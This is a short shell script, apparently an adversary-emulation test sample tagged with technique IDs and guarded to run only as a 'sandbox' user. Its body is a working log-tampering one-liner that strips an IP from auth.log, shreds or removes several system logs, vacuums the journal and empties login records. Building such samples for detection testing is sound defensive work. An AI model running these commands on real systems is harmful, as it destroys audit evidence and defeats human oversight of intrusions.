#!/bin/sh
# technique: T1685.006 T1070.002
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

sed -i '/203.0.113.7/d' /var/log/auth.log; shred -u /var/log/messages; unlink /var/log/secure; journalctl --rotate; journalctl --vacuum-time=1s; dd if=/dev/null of=/var/log/lastlog; rm -f /var/log/btmp
